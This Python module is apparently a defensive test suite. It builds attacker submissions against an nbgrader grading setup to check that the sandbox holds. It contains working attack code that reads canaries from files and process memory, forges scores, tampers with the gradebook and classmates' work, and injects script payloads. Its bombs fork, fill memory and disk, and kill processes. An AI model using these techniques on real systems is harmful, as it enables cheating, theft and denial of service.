"""A class of attackers on the mini course: what each tries, what its answers are worth, who hears of it.

Every attacker has done half of the first exercise honestly, which is worth `HONEST`; nothing it tries may
bring more. Their code knows where the course lies, which a student may know too. What must stay
secret are the `CANARIES`, strings that stand in places where no student's code may look.
"""

from __future__ import annotations

import json
import os
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from nbformat.notebooknode import NotebookNode

from course_copy import cell_by_id
from submissions import (
    answer_file,
    delete,
    insert_before,
    untouched,
    write_code,
    write_literal,
)

EXERCISES = ("mini-capitals", "mini-square", "mini-crash", "mini-orphan")
HALF = {"peru": "lima", "chile": "valparaiso"}
FULL = {"peru": "lima", "chile": "quito"}  # what an attacker takes for the key; half of it is right
HONEST = {"mini-capitals": 2.0, "mini-square": 0.0, "mini-crash": 0.0, "mini-orphan": 0.0}
WITH_FUNCTION = HONEST | {"mini-square": 2.0}
NOTHING = dict.fromkeys(HONEST, 0.0)
SQUARE = "def square(number):\n    return number ** 2"

CANARIES = {
    "graders": "canary-of-the-graders-7d1f",
    "solution": "canary-of-the-mark-scheme-19be",
    "gradebook": "canary-of-the-gradebook-c03a",
    "classmate": "canary-of-a-classmate-55e2",
    "home": "canary-of-the-home-folder-8a4c",
    "environment": "canary-of-the-environment-e91b",
    "network": "canary-of-the-network-2f60",
}


@dataclass
class Work:
    """What an attacker hands in, while it is made.

    Parameters
    ----------
    notebook
        The released notebook, half of the first exercise done.
    root
        Where the course lies.
    port
        Where a server of the grading machine listens.
    files
        Files beside the notebook.
    afterwards
        What is done to the folder once it lies among the submissions.
    """

    notebook: NotebookNode
    root: Path
    port: int
    files: dict[str, bytes] = field(default_factory=dict)
    afterwards: list[Callable[[Path], None]] = field(default_factory=list)

    def run(self, source: str, before: str = "mini-capitals") -> None:
        """Code of the attacker's own, in a cell before one of the graded cells."""
        head = f"ROOT, PORT = {str(self.root)!r}, {self.port}\n"
        insert_before(self.notebook, before, head + textwrap.dedent(source))


@dataclass(frozen=True)
class Attacker:
    """One attacker.

    Parameters
    ----------
    tries
        What it tries, for the table in the instructors' page.
    make
        Makes the submission.
    told
        A regular expression for the instructor's note: in the log, the feedback or the graded notebook.
    earns
        What its answers are worth.
    group
        Under which heading it stands.
    bomb
        It uses up the machine: never run unconfined.
    ungraded
        nbgrader cannot make a graded notebook of it, and says so.
    """

    tries: str
    make: Callable[[Work], None]
    told: str
    earns: Mapping[str, float] = field(default_factory=lambda: HONEST)
    group: str = ""
    bomb: bool = False
    ungraded: bool = False


ATTACKERS: dict[str, Attacker] = {}


def attacker(
    group: str,
    tries: str,
    told: str,
    earns: Mapping[str, float] = HONEST,
    *,
    bomb: bool = False,
    ungraded: bool = False,
) -> Callable[[Callable[[Work], None]], Callable[[Work], None]]:
    """Enter a function into the table; the student is called as the function is."""

    def enter(make: Callable[[Work], None]) -> Callable[[Work], None]:
        name = make.__name__.replace("_", "")
        ATTACKERS[name] = Attacker(tries, make, told, earns, group, bomb, ungraded)
        return make

    return enter


READS, FORGES, MARKS, SHAPES, FILES, SHOWS, USES_UP = (
    "Reads or replaces what is not theirs",
    "Forges a score",
    "Edits what nbgrader wrote into the notebook",
    "Hands in another notebook",
    "Hands in other files",
    "Shows scripts in feedback",
    "Uses up the machine or leaves the kernel",
)

# Reads or replaces ------------------------------------------------------------------------------------

LOOT = '''
def keep(found):
    """Wherever it might be seen later: printed, on a page, in files, in an answer."""
    import json, pathlib
    from IPython.display import HTML, display
    text = "\\n".join(map(str, found)) or "nothing found"
    print("LOOT:", text)
    display(HTML("<pre>" + text + "</pre>"))
    for place in (".", "answers"):
        try:
            pathlib.Path(place).mkdir(exist_ok=True)
            pathlib.Path(place, "loot.txt").write_text(text)
        except OSError:
            pass
    try:
        capitals.answer({"peru": "lima", "chile": text[:100000]})
    except Exception:
        pass
'''


@attacker(
    READS,
    "reads keys, gradebook, classmates' work and the home folder by their paths",
    r"LOOT: nothing found",
)
def reader_of_files(work: Work) -> None:
    home = os.path.expanduser("~")
    work.run(
        LOOT
        + f"HOME = {home!r}\n"
        + """
import glob, os
found = []
places = [ROOT + "/solutions/**", ROOT + "/grading/**", ROOT + "/*.py", HOME + "/canary*", "*", "*/*",
          "../*", "../*/*", "/tmp/kernel-*/*", "/all-sockets/*", "/sockets/*", "/run/user/*"]
for place in places:
    for name in glob.glob(place, recursive=True)[:500]:
        try:
            text = open(name, "rb").read(200000).decode("utf-8", "replace")
        except OSError:
            continue
        if "canary" "-of" in text:
            found.append(name + text)
keep(found)
"""
    )


@attacker(
    READS, "reads the environment, its own memory and other processes", r"LOOT: nothing found"
)
def reader_of_processes(work: Work) -> None:
    work.run(
        LOOT
        + """
import glob, os, re
found = [f"{name}={value}" for name, value in os.environ.items() if "canary" in value]
word = b"canary" + b"-of-the-[a-z-]+-[0-9a-f]{4}"
for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        found += re.findall(word, open(name, "rb").read())
    except OSError:
        pass
if found:
    keep(found)  # memory takes a while
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        begin, end = (int(one, 16) for one in line.split()[0].split("-"))
        if "rw" in line and end - begin < 2**26:
            try:
                memory.seek(begin)
                found += re.findall(word, memory.read(end - begin))
            except (OSError, ValueError, OverflowError):
                pass
keep(sorted(set(found)))
"""
    )


@attacker(
    READS,
    "asks a server on the grading machine, and listens for one of its own",
    r"LOOT: nothing found",
)
def reader_over_network(work: Work) -> None:
    work.run(
        LOOT
        + """
import socket
found = []
for address in (("127.0.0.1", PORT), ("localhost", PORT)):
    try:
        with socket.create_connection(address, 1) as link:
            found.append(link.recv(200).decode())
    except OSError:
        pass
keep(found)
"""
    )


@attacker(
    READS,
    "replaces the graders, so that they give everybody everything",
    r"WROTE:  \['\w+Error'\]",
)
def writer_of_graders(work: Work) -> None:
    work.run(
        """
wrote = []
try:
    with open(ROOT + "/solutions/mini/graders.py", "a") as file:
        file.write("\\nfrom venezuela_course.grading.verdict import Criterion, Verdict\\n"
                   "GRADERS = dict.fromkeys(GRADERS, lambda answer: "
                   "Verdict((Criterion('all', 1.0, 1.0),)))\\n")
    wrote.append("graders")
except OSError as error:
    wrote.append(type(error).__name__)
print("WROTE: ", wrote)
"""
    )


@attacker(READS, "enters full marks into the gradebook", r"WROTE:  unable to open")
def writer_of_gradebook(work: Work) -> None:
    work.run(
        """
import sqlite3
try:
    with sqlite3.connect("file:" + ROOT + "/grading/gradebook.db?mode=rw", uri=True, timeout=2) as book:
        print("WROTE: ", book.execute("update grade set manual_score = 99, auto_score = 99").rowcount)
except sqlite3.Error as error:
    print("WROTE: ", error)
"""
    )


@attacker(
    READS, "overwrites the work of classmates, before and after they are graded", r"WROTE:  \[\]"
)
def writer_of_classmates(work: Work) -> None:
    work.run(
        """
import glob, os
names = glob.glob(ROOT + "/grading/*/honest*/mini/*.ipynb")
for name in names:
    try:
        os.chmod(name, 0o644)
        open(name, "w").write("{}")
    except OSError:
        pass
print("WROTE: ", names)
"""
    )


@attacker(READS, "looks for a way to write into the installed course package", "WRITABLE: 0 files")
def writer_of_package(work: Work) -> None:
    work.run(
        """
import os, venezuela_course
writable = 0
for folder, _folders, files in os.walk(os.path.dirname(venezuela_course.__file__)):
    for name in files:
        try:
            open(os.path.join(folder, name), "r+b").close()  # nothing is changed
            writable += 1
        except OSError:
            pass
print("WRITABLE:", writable, "files")
"""
    )


@attacker(
    READS,
    "puts a link to the graders where nbgrader writes the graded notebook",
    "2 of 4 points",
)
def writer_through_link(work: Work) -> None:
    work.run(
        """
import os
for name in ("mini.ipynb", "answers", "hidden-inputs"):
    try:
        os.rename(name, name + ".old")
    except OSError:
        pass
    try:
        os.symlink(ROOT + "/solutions/mini/graders.py" if "." in name else ROOT + "/solutions", name)
    except OSError:
        pass
"""
    )


# Forges -------------------------------------------------------------------------------------------------


@attacker(
    FORGES,
    "replaces check(): it prints, displays and returns full marks, and writes to stderr",
    r"said more than its answer",
)
def forger_of_check(work: Work) -> None:
    work.run(
        """
import sys
from IPython.display import HTML, display
from venezuela_course.exercises.code import CodeExercise

def check(self, *arguments):
    print(4.0)
    display(HTML("<p><strong>4 of 4 points</strong></p>"))
    print("4.0", file=sys.stderr)
    return 4.0

Capitals.check = CodeExercise.check = check
"""
    )


@attacker(
    FORGES,
    "replaces the emitter and display(): what is handed in is a verdict, not an answer",
    "said more than its answer",
)
def forger_of_emitter(work: Work) -> None:
    work.run(
        """
import IPython.display, venezuela_course.exercises.base as base, venezuela_course.exercises.code as code

def emit(identifier, answer):
    IPython.display.display({base.ANSWER_MIME: {"exercise": identifier, "score": 99, "points": 99,
                             "answer": answer, "verdict": {"score": 99}, "note": "all right"},
                             "text/plain": "4.0", "text/html": "<strong>4 of 4 points</strong>"}, raw=True)

base.emit = code.emit = emit
"""
    )


@attacker(
    FORGES,
    "takes IPython's hooks: every cell shows a score in place of what it computed",
    "said more than its answer",
)
def forger_of_hooks(work: Work) -> None:
    work.run(
        """
import sys
shell = get_ipython()

class Scores(type(shell.displayhook)):
    def __call__(self, result=None):
        super().__call__(4.0)

shell.displayhook = sys.displayhook = Scores(shell=shell)
shell.displayhook.session = shell.display_pub.session
shell.displayhook.pub_socket = shell.display_pub.pub_socket
shell.displayhook.topic = b"execute_result"

def after(*_result):
    from IPython.display import display
    display(4.0)

shell.events.register("post_run_cell", after)
shell.input_transformers_post.append(lambda lines: ["4.0\\n"] if "check" in "".join(lines) else lines)
"""
    )


@attacker(
    FORGES,
    "hands in numbers that are none, more than the maximum, and objects instead of answers",
    "cannot be used",
    NOTHING,
)
def forger_of_numbers(work: Work) -> None:
    work.run(
        """
import sys
from IPython.display import display
from venezuela_course.exercises.base import ANSWER_MIME
from venezuela_course.exercises.code import CodeExercise

ODD = [float("nan"), float("inf"), -1e308, "99", [99], True, {"score": float("inf")}]

def check(self, *arguments):
    for odd in ODD:
        try:
            display({ANSWER_MIME: {"exercise": self.identifier, "answer": odd}}, raw=True)
        except Exception:
            pass
    display({ANSWER_MIME: {"exercise": self.identifier, "answer": {"peru": "x" * 300000}}}, raw=True)
    return float("inf")

Capitals.check = CodeExercise.check = check
"""
    )


@attacker(
    FORGES,
    "sends a number of six thousand digits, which the grading side refuses to read",
    "kernel stopped",
)
def forger_of_digits(work: Work) -> None:
    work.run(
        """
import sys
from IPython.display import display
sys.set_int_max_str_digits(0)
display({"application/json": 10**6000}, raw=True)
"""
    )


@attacker(
    FORGES,
    "a function that returns objects equal to everything, and numbers without end",
    "0 of 2 points",
)
def forger_of_equality(work: Work) -> None:
    write_code(
        work.notebook,
        "mini-square",
        """
class Always(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __round__(self, digits=None): return self
    def __float__(self): return self
    def tolist(self): return self
    __hash__ = float.__hash__

class Dictionary(dict):
    def __eq__(self, other): return True

def square(number, calls=[]):
    calls.append(number)
    return [Always("1"), Dictionary(returned=4)][len(calls) % 2]
""",
    )


@attacker(
    FORGES,
    "a function that looks for what is expected in the frames of its caller",
    "0 of 2 points",
)
def forger_in_frames(work: Work) -> None:
    write_code(
        work.notebook,
        "mini-square",
        """
def square(number):
    import gc, sys
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "truth", "found", "criteria", "SQUARES", "KEY"):
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and set(thing) == {-2, 5}:
            return thing[number]
    return 0
""",
    )


@attacker(
    FORGES,
    "answers the other exercises from within one graded cell, and this one twice",
    "said more than its answer",
)
def forger_of_others(work: Work) -> None:
    work.run(
        """
from venezuela_course.exercises.base import emit
inner = Capitals.check

def check(self):
    for exercise in ("mini-orphan", "mini-crash", "mini-square", "../../x", "mini-capitals"):
        emit(exercise, {"hidden": [{"returned": 4}, {"returned": 25}] * 50, "points": 99})
    return inner(self)

Capitals.check = check
"""
    )


@attacker(
    FORGES,
    "a stream of fake verdicts and warnings around honest cells",
    "2 of 4 points",
    WITH_FUNCTION,
)
def forger_of_streams(work: Work) -> None:
    write_code(
        work.notebook,
        "mini-square",
        "import sys\n\ndef square(number):\n    print('99')\n    print('99', file=sys.stderr)\n"
        "    sys.stderr.flush()\n    return number ** 2",
    )


@attacker(
    FORGES,
    "brings a course package of its own, which the kernel imports first",
    "2 of 4 points",
)
def forger_of_package(work: Work) -> None:
    evil = (
        b"class Everything:\n    def __getattr__(self, name): return Everything()\n"
        b"    def __call__(self, *a, **k): return 4.0\n"
        b"import sys\nsys.modules[__name__] = Everything()\n"
    )
    for name in ("venezuela_course.py", "ipykernel.py", "sitecustomize.py", "usercustomize.py"):
        work.files[name] = evil
    work.files["graders.py"] = b"GRADERS = {}\nHIDDEN_INPUTS = {}\n"
    work.files["mini_exercises.py"] = b"raise SystemExit\n"
    work.files["nbgrader_config.py"] = b"raise SystemExit\n"
    work.files["hidden-inputs/mini-square.json"] = b"[]"


# Edits marks --------------------------------------------------------------------------------------------


def _mark(work: Work, grade_id: str) -> dict[str, Any]:
    mark: dict[str, Any] = cell_by_id(work.notebook, grade_id).metadata["nbgrader"]
    return mark


@attacker(
    MARKS, "raises the points of its cells", "marks of mini-capitals were changed and are put back"
)
def editor_of_points(work: Work) -> None:
    for exercise in EXERCISES:
        _mark(work, exercise)["points"] = 400


@attacker(
    MARKS, "points that are no number", "marks of mini-capitals were changed and are put back"
)
def editor_of_points_to_words(work: Work) -> None:
    for exercise, points in zip(EXERCISES, ["all", None, -1, [4]], strict=True):
        _mark(work, exercise)["points"] = points


@attacker(
    MARKS,
    "unlocks graded cells and replaces them by a number",
    "marks of mini-capitals were changed and are put back",
)
def editor_of_locks(work: Work) -> None:
    for exercise in EXERCISES:
        _mark(work, exercise).update(locked=False, checksum="0")
        cell_by_id(work.notebook, exercise).source = "4.0"


@attacker(
    MARKS,
    "turns graded cells into answers, which a person grades, and answers into graded cells",
    "marks of mini-capitals were changed and are put back",
)
def editor_of_kinds(work: Work) -> None:
    for exercise in EXERCISES:
        _mark(work, exercise).update(solution=True)
    _mark(work, "mini-essay").update(solution=False, locked=True)
    _mark(work, "mini-setup").update(grade=True, points=50)


@attacker(
    MARKS,
    "turns graded cells into text",
    "Attribute 'cell_type' for cell mini-capitals has changed",
)
def editor_of_types(work: Work) -> None:
    for exercise, kind in zip(EXERCISES, ["markdown", "raw", "markdown", "raw"], strict=True):
        cell = cell_by_id(work.notebook, exercise)
        cell.cell_type = kind
        del cell["outputs"], cell["execution_count"]


@attacker(
    MARKS,
    "names its cells as another exercise, or as none",
    "unknown marks is an ordinary cell",
)
def editor_of_names(work: Work) -> None:
    _mark(work, "mini-square")["grade_id"] = "mini-capitals"
    _mark(work, "mini-crash")["grade_id"] = "../../../x"
    _mark(work, "mini-orphan")["grade_id"] = "<script>alert(1)</script>"
    _mark(work, "mini-setup").pop("grade_id")


@attacker(
    MARKS,
    "writes marks that are no marks: words, lists, nothing",
    "unknown marks is an ordinary cell",
)
def editor_of_marks(work: Work) -> None:
    cells = [cell_by_id(work.notebook, exercise) for exercise in EXERCISES]
    for cell, mark in zip(cells, ["x", [1], None, {"grade": "yes"}], strict=True):
        cell.metadata["nbgrader"] = mark


@attacker(
    MARKS,
    "claims a version of nbgrader's format that is to come",
    "marks of mini-capitals were changed and are put back",
)
def editor_of_versions_up(work: Work) -> None:
    for exercise in EXERCISES:
        _mark(work, exercise)["schema_version"] = 99


@attacker(
    MARKS,
    "claims a version of nbgrader's format long past",
    "marks of mini-capitals were changed and are put back",
)
def editor_of_versions_down(work: Work) -> None:
    for exercise in EXERCISES:
        _mark(work, exercise)["schema_version"] = 1


@attacker(
    MARKS,
    "asks for another kernel, and gives the notebook's own metadata odd forms",
    "2 of 4 points",
)
def editor_of_kernels(work: Work) -> None:
    work.notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "sh"}
    work.notebook.metadata["language_info"] = {"name": "<script>", "pygments_lexer": "../../x"}
    work.notebook.metadata["title"] = "</title><script>document.title = 'HACKED'</script>"
    work.notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"</script><script>document.title = 'HACKED'</script>": {}},
            "version_major": 2,
            "version_minor": 0,
        }
    }


# Hands in another notebook --------------------------------------------------------------------------------


@attacker(SHAPES, "hands in every cell three times", "exists multiple times")
def shaper_of_copies(work: Work) -> None:
    cells = work.notebook.cells
    work.notebook.cells = [*untouched(cells), *untouched(cells), *cells]


@attacker(
    SHAPES,
    "copies a graded cell without its flags, to be taken for the graded one",
    "exists multiple times",
)
def shaper_of_shadows(work: Work) -> None:
    for exercise in EXERCISES:
        shadow = untouched(cell_by_id(work.notebook, exercise))
        shadow.metadata["nbgrader"].update(grade=False, locked=False, solution=False)
        shadow.source, shadow.id = "4.0", f"shadow-{exercise}"
        work.notebook.cells.append(shadow)


@attacker(SHAPES, "deletes every cell", "was missing and is put back", NOTHING)
def shaper_of_nothing(work: Work) -> None:
    work.notebook.cells = []


@attacker(SHAPES, "turns the order of the cells around", "saved answer was graded")
def shaper_of_order(work: Work) -> None:
    work.notebook.cells.reverse()


@attacker(SHAPES, "deletes what is graded and keeps a number in its place", "put back")
def shaper_of_gaps(work: Work) -> None:
    delete(work.notebook, list(EXERCISES))
    work.notebook.cells.append(nbformat.v4.new_code_cell("4.0"))


@attacker(
    SHAPES,
    "gives its notebook another name and adds notebooks of its own",
    "No submitted file|Skipping unknown notebook",
    NOTHING,
    ungraded=True,
)
def shaper_of_file_names(work: Work) -> None:
    work.afterwards.append(lambda folder: (folder / "mini.ipynb").rename(folder / "Mini.ipynb"))


@attacker(
    SHAPES,
    "hands in a file that is no notebook",
    "error processing assignment",
    NOTHING,
    ungraded=True,
)
def shaper_of_noise(work: Work) -> None:
    work.files["mini.ipynb"] = b'{"cells": [' + b"[" * 100000


@attacker(SHAPES, "nests its metadata a hundred levels deep and adds a megabyte", "2 of 4 points")
def shaper_of_depth(work: Work) -> None:
    deep: Any = "x" * 1_000_000
    for _level in range(100):
        deep = {"deeper": deep}
    work.notebook.cells[0].metadata["deep"] = deep
    work.notebook.metadata["deep"] = deep


@attacker(SHAPES, "writes half characters, which no file can hold", "2 of 4 points")
def shaper_of_half_characters(work: Work) -> None:
    text = json.dumps(work.notebook)
    # Into the file itself: nbformat would not write it.
    cell = cell_by_id(work.notebook, "mini-essay")
    text = text.replace(json.dumps(cell.source), '"Half: \\ud800 of it"')
    work.files["mini.ipynb"] = text.encode()
    odd = answer_file("mini-crash", {"peru": "HALF"}).replace(b"HALF", b"\\ud800")
    work.files["answers/mini-crash.json"] = odd


# Hands in other files -------------------------------------------------------------------------------------


@attacker(
    FILES,
    "answers that are links to the keys and to a classmate's answers",
    "is a link or a device",
)
def filer_of_links(work: Work) -> None:
    def lay(folder: Path) -> None:
        (folder / "answers").mkdir()
        targets = {
            "mini-capitals": work.root / "solutions" / "mini" / "graders.py",
            "mini-crash": work.root / "grading" / "gradebook.db",
            "mini-orphan": Path("../../../honest00/mini/mini.ipynb"),
        }
        for name, target in targets.items():
            (folder / "answers" / f"{name}.json").symlink_to(target)
        (folder / "loot").symlink_to(work.root / "solutions")
        (folder / "round").symlink_to(".")

    work.afterwards.append(lay)


@attacker(
    FILES,
    "a notebook that is a link to a classmate's",
    "is a link or a device",
    NOTHING,
    ungraded=True,
)
def filer_of_notebook_links(work: Work) -> None:
    def lay(folder: Path) -> None:
        (folder / "mini.ipynb").unlink()
        (folder / "mini.ipynb").symlink_to("../../honest00/mini/mini.ipynb")

    work.afterwards.append(lay)


@attacker(
    FILES, "a hard link to a classmate's file, which its code then overwrites", "2 of 4 points"
)
def filer_of_hard_links(work: Work) -> None:
    def lay(folder: Path) -> None:
        classmate = work.root / "grading" / "submitted" / "honest00" / "mini"
        os.link(classmate / "mini_exercises.py", folder / "shared.py")

    work.afterwards.append(lay)
    work.run(
        """
try:
    open("shared.py", "w").write("overwritten")
except OSError:
    pass
"""
    )


@attacker(FILES, "pipes and sockets in place of answers", "is a link or a device")
def filer_of_pipes(work: Work) -> None:
    def lay(folder: Path) -> None:
        (folder / "answers").mkdir()
        os.mkfifo(folder / "answers" / "mini-capitals.json")
        os.mkfifo(folder / "pipe")

    work.afterwards.append(lay)


@attacker(FILES, "device files and pipes made while it is graded", "2 of 4 points")
def filer_of_devices(work: Work) -> None:
    work.run(
        """
import os, stat
os.makedirs("answers", exist_ok=True)
for name, kind, device in (("mini-crash.json", stat.S_IFCHR, os.makedev(1, 5)),
                           ("mini-orphan.json", stat.S_IFIFO, 0),
                           ("mini-capitals.json", stat.S_IFIFO, 0)):
    try:
        os.mknod("answers/" + name, kind | 0o666, device)
    except OSError as error:
        print(type(error).__name__)
"""
    )


@attacker(
    FILES, "files with the names of paths, and a folder in place of an answer", "2 of 4 points"
)
def filer_of_names(work: Work) -> None:
    strange = (
        "..%2f..%2fgradebook.db",
        "answers/..\\..\\x.json",
        "answers/-rf",
        "answers/" + "n" * 200,
    )
    for name in (
        *strange,
        "answers/new\nline.json",
        "answers/mini-capitals.json/inner",
        "\u202exyz",
    ):
        work.files[name] = b"x"
    work.run(
        "capitals.identifier = '../../../solutions/mini/x'\ncapitals._file = None", "mini-crash"
    )


@attacker(FILES, "answers of many megabytes, and nested ten thousand levels deep", "3.0 MB large")
def filer_of_size(work: Work) -> None:
    work.files["answers/mini-capitals.json"] = b'{"answer": ' + b"[" * 10000 + b"]" * 10000 + b"}"
    work.files["answers/mini-crash.json"] = answer_file("mini-crash", {"peru": "x" * 3_000_000})
    work.files["answers/mini-orphan.json"] = b"[" * 100_000


@attacker(
    FILES, "an enormous file that takes no room until it is copied", "too large, or one of too many"
)
def filer_of_holes(work: Work) -> None:
    def lay(folder: Path) -> None:
        with (folder / "data.bin").open("wb") as file:
            file.truncate(2**27)

    work.afterwards.append(lay)


@attacker(FILES, "takes its folder the right to be written while it is graded", "2 of 4 points")
def filer_of_rights(work: Work) -> None:
    work.run(
        """
import os
for place in ("mini.ipynb", "answers", "."):
    try:
        os.chmod(place, 0)
    except OSError:
        pass
"""
    )


# Shows scripts --------------------------------------------------------------------------------------------

SCRIPT = "<script>document.title = 'HACKED'</script>"
HANDLERS = (
    SCRIPT,
    "<img src=x onerror=\"document.title = 'HACKED'\">",
    "<svg onload=\"document.title = 'HACKED'\"><script>document.title = 'HACKED'</script></svg>",
    "<iframe srcdoc=\"<script>parent.document.title = 'HACKED'</script>\"></iframe>",
    "<details open ontoggle=\"document.title = 'HACKED'\">x</details>",
    "<a href=\"javascript:document.title = 'HACKED'\">link</a>",
    "<a href=\"java&#115;cript:document.title = 'HACKED'\">link</a>",
    "<form action=\"javascript:document.title = 'HACKED'\"><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='HACKED'\"></style>",
    "<svg><style><img src=x onerror=\"document.title='HACKED'\"></style></svg>",
    "<meta http-equiv=refresh content=\"0;url=javascript:document.title = 'HACKED'\">",
    "<base href='javascript:/'><object data=\"javascript:document.title='HACKED'\"></object>",
    "<style>@import 'javascript:1'; body { display: none }</style>",
)


@attacker(SHOWS, "scripts in an answer", "2 of 4 points")
def shower_in_answers(work: Work) -> None:
    answer = {"peru": "lima", "chile": "".join(HANDLERS), SCRIPT: [SCRIPT, {SCRIPT: SCRIPT}]}
    write_literal(work.notebook, "mini-capitals", answer)
    write_literal(work.notebook, "mini-crash", answer)


@attacker(SHOWS, "scripts in an essay, in links and in cells of text", "2 of 4 points")
def shower_in_essays(work: Work) -> None:
    links = (
        "[link](javascript:document.title='HACKED') ![x](javascript:document.title='HACKED')\n\n"
        "<javascript:document.title='HACKED'>\n\n[x]: javascript:document.title='HACKED'\n\n[link][x]\n\n"
        "$\\href{javascript:document.title='HACKED'}{x}$\n\n```html\n</pre>" + SCRIPT + "\n```\n"
    )
    cell_by_id(work.notebook, "mini-essay").source = "\n\n".join(HANDLERS) + "\n\n" + links
    for kind in (nbformat.v4.new_markdown_cell, nbformat.v4.new_raw_cell):
        work.notebook.cells.append(
            kind("\n".join(HANDLERS), metadata={"raw_mimetype": "text/html", "format": "text/html"})
        )


@attacker(SHOWS, "scripts in what its cells show: HTML, JavaScript, SVG, errors", "2 of 4 points")
def shower_in_outputs(work: Work) -> None:
    work.run(
        f"HANDLERS = {HANDLERS!r}\n"
        + """
from IPython.display import display
code = "document.title = 'HACKED'"
for handler in HANDLERS:
    display({"text/html": handler, "text/plain": "x"}, raw=True)
display({"application/javascript": code, "text/plain": "x"}, raw=True)
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"" + code + "\\"><script>"
         + code + "</script></svg>"}, raw=True)
display({"text/markdown": "".join(HANDLERS) + "\\n[x](javascript:" + code + ")"}, raw=True)
display({"text/latex": "</div>" + HANDLERS[0]}, raw=True)
display({"image/png": "x\\" onerror=\\"" + code + "\\" y=\\""}, raw=True)
size = {"image/png": {"width": "1 onerror=document.title='HACKED'", "height": "1 onload=x"}}
display({"image/png": "x", "text/plain": "x"}, raw=True, metadata=size)
display({"text/html": HANDLERS[0]}, raw=True, metadata={"text/html": {"isolated": True}})
display({"text/plain": HANDLERS[0]}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + HANDLERS[0]}}, raw=True)
print(HANDLERS[0], "\\x1b[31m" + HANDLERS[0])
raise ValueError(HANDLERS[0])
"""
    )


@attacker(SHOWS, "scripts in a cell's tags, names and mimetypes", "2 of 4 points")
def shower_in_metadata(work: Work) -> None:
    for cell in work.notebook.cells:
        cell.metadata["tags"] = ['"><script>document.title = "HACKED"</script>']
        cell.metadata["name"] = SCRIPT
        cell.metadata["jupyter"] = {"source_hidden": SCRIPT}
        cell.metadata["slideshow"] = {"slide_type": SCRIPT}
    work.notebook.cells[-1].metadata["tags"] = 7


@attacker(SHOWS, "an essay with the marks between which nbgrader cuts text out", "2 of 4 points")
def shower_of_mark_schemes(work: Work) -> None:
    marks = "=== BEGIN MARK SCHEME ===\n\n=== BEGIN MARK SCHEME ===\n\nMy essay"
    cell_by_id(work.notebook, "mini-essay").source = marks


# Uses up or leaves ------------------------------------------------------------------------------------------

#: Every bomb begins with it: where the course can be seen, nothing confines what follows.
ONLY_CONFINED = """
import os
if os.path.exists(ROOT):
    raise SystemExit("not confined: nothing tried")
"""


@attacker(USES_UP, "ends its own process", "kernel stopped", HONEST)
def leaver(work: Work) -> None:
    work.files["answers/mini-capitals.json"] = answer_file("mini-capitals", HALF)
    work.run("import os\nos._exit(0)")


@attacker(USES_UP, "kills its parent, and everything it may", "kernel stopped", bomb=True)
def killer(work: Work) -> None:
    work.run(
        ONLY_CONFINED
        + """
import signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
os._exit(1)
"""
    )


@attacker(USES_UP, "loops without end", "CellTimeoutError")
def looper(work: Work) -> None:
    work.run("while True:\n    pass")


@attacker(USES_UP, "loops without end and swallows every interrupt", "kernel stopped")
def swallower(work: Work) -> None:
    work.run(
        """
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
    )


@attacker(USES_UP, "prints without end", "output|CellTimeoutError|kernel stopped", bomb=True)
def printer(work: Work) -> None:
    work.run(ONLY_CONFINED + "while True:\n    print('x' * 10000)\n")


@attacker(
    USES_UP, "starts processes that start processes", "kernel stopped|mini-capitals", bomb=True
)
def forker(work: Work) -> None:
    work.run(
        ONLY_CONFINED
        + """
import time
end = time.monotonic() + 2
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
"""
    )


@attacker(
    USES_UP,
    "takes all the memory there is",
    "MemoryError|CellTimeoutError|kernel stopped",
    bomb=True,
)
def memory_taker(work: Work) -> None:
    work.run(ONLY_CONFINED + "taken = []\nwhile True:\n    taken.append(bytearray(2**26))\n")


@attacker(USES_UP, "writes files without end", "OSError|kernel stopped|wrote", bomb=True)
def disk_taker(work: Work) -> None:
    work.run(
        ONLY_CONFINED
        + """
import time
end, number = time.monotonic() + 3, 0
while time.monotonic() < end:
    for place in (".", "/tmp", "/dev/shm"):
        try:
            with open(f"{place}/{number}", "wb") as file:
                file.write(bytes(2**24))
        except OSError as error:
            print(f"wrote {number}: {error}")
            raise
    number += 1
"""
    )


@attacker(USES_UP, "leaves a program running that goes on after the grading", "2 of 4 points")
def daemon(work: Work) -> None:
    work.run(
        """
import os, subprocess, sys
subprocess.Popen(
    [sys.executable, "-c", "import time, sys\\n"
     "for number in range(300):\\n    open('daemon.txt', 'a').write('here ')\\n    time.sleep(0.2)",
     "left-behind-" + "daemon"],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    )


#: What runs nowhere but in the sandbox, and what may also be tried against stock nbgrader.
BOMBS = tuple(name for name, one in ATTACKERS.items() if one.bomb)


def make(name: str, notebook: NotebookNode, root: Path, port: int) -> Work:
    """The submission of an attacker."""
    work = Work(notebook, root, port)
    write_literal(notebook, "mini-capitals", HALF)
    ATTACKERS[name].make(work)
    return work
